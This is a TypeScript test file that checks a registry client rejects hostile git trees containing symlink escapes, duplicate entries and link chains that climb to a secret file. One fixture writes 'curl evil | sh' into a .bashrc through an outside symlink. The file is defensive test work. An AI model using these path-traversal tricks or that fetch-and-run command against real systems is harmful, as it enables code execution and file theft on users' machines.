/**
 * Issue 11: git trees a hostile GitHub repository serves, crafted with `commitRawTree` (names `git add` never makes)
 * and served as git holds them by the REST emulator. Per-entry mode writes them through core's tree writer, so
 * nothing lands outside the cache, whatever order the blobs arrive in.
 */
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { commitRawTree, type RawTreeItem, startGitHubEmulator } from '@agentos-registry/test-servers';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { failure, registryFiles, TestBed } from './support/registry-repo.js';

let bed: TestBed;
beforeEach(() => {
  bed = new TestBed();
});
afterEach(async () => {
  await bed.close();
});

const FOLDER = 'registry/curated/tool-0';
const files = registryFiles(1);
const manifest: RawTreeItem = { name: 'manifest.json', mode: '100644', content: files[`${FOLDER}/manifest.json`]! };
const filler = (count: number): RawTreeItem[] =>
  Array.from({ length: count }, (_, i) => ({ name: `f${i}.js`, mode: '100644', content: `export const f = ${i};\n` }));

/** The registry of `registryFiles(1)` with `tool-0` replaced by `items`, served in per-entry mode. */
async function hostile(items: RawTreeItem[], extra: Record<string, string> = {}) {
  const repo = await bed.repo({ ...files, ...extra }, 'hostile');
  await commitRawTree(repo, { folder: FOLDER, items });
  const emulator = await bed.cleanup.add(startGitHubEmulator({ repos: { 'your-org/extensions': { path: repo.path } } }));
  return (mode: 'per-entry' | 'tarball' = 'per-entry') => bed.registry({ location: 'your-org/extensions', baseUrl: emulator.apiUrl, mode });
}

describe('per-entry mode refuses hostile trees before anything is written outside', () => {
  test('a symlink `a` to an outside folder, then a blob `a/.bashrc`: E_UNSAFE_PATH, the outside file unchanged', async () => {
    const outside = join(await bed.dir(), 'outside-home');
    await mkdir(outside);
    await writeFile(join(outside, '.bashrc'), 'original\n');
    // The link's blob is asked for first and the file's last, so a writer that follows links in the order blobs
    // arrive would have created `a` before writing `a/.bashrc`.
    const open = await hostile([
      manifest,
      { name: 'a', mode: '120000', content: outside },
      ...filler(6),
      { name: 'a/.bashrc', mode: '100644', content: 'curl evil | sh\n' },
    ]);
    const error = await failure((await open()).fetch('tool', 'com.example.tool-0'));
    expect(error.code).toBe('E_UNSAFE_PATH');
    expect(await readFile(join(outside, '.bashrc'), 'utf8')).toBe('original\n');
    expect(await readdir(outside)).toEqual(['.bashrc']);
  });

  test.each([
    ['a file', { name: 'a.js', mode: '100644', content: 'one' }, { name: 'a.js', mode: '100644', content: 'two' }],
    ['a symlink', { name: 'link.js', mode: '120000', content: 'f0.js' }, { name: 'link.js', mode: '120000', content: 'f1.js' }],
  ] as const)('%s listed twice is E_UNSAFE_PATH saying so, not E_INTERNAL', async (_what, first, second) => {
    const open = await hostile([manifest, ...filler(2), first as RawTreeItem, second as RawTreeItem]);
    const error = await failure((await open()).fetch('tool', 'com.example.tool-0'));
    expect(error.code).toBe('E_UNSAFE_PATH');
    expect(error.message).toContain('listed twice');
  });
});

test.each(['per-entry', 'tarball'] as const)("load('persona') through links that climb out through links is E_UNSAFE_PATH (%s)", async (mode) => {
  const secret = join(await bed.dir(), 'secret.txt');
  await writeFile(secret, 'TOP-SECRET\n');
  const index = JSON.parse(files['registry.json']!);
  index.personas = { curated: [{ id: 'com.example.tool-0', name: 'Evil', version: '1.0.0', path: 'curated/tool-0' }] };
  // `d/l` → `..` leads back to the entry folder, so 20 `d/l` then 40 `..` reach `/`, and the rest the secret.
  const climbing = `${'d/l/'.repeat(20)}${'../'.repeat(40)}${secret.slice(1)}`;
  const open = await hostile(
    [manifest, { name: 'd', mode: '40000', items: [{ name: 'l', mode: '120000', content: '..' }] }, { name: 'SOUL.md', mode: '120000', content: climbing }],
    { 'registry.json': JSON.stringify(index) },
  );
  const error = await failure((await open(mode)).load('persona', 'com.example.tool-0'));
  expect(error.code).toBe('E_UNSAFE_PATH');
  expect(JSON.stringify(error)).not.toContain('TOP-SECRET');
});
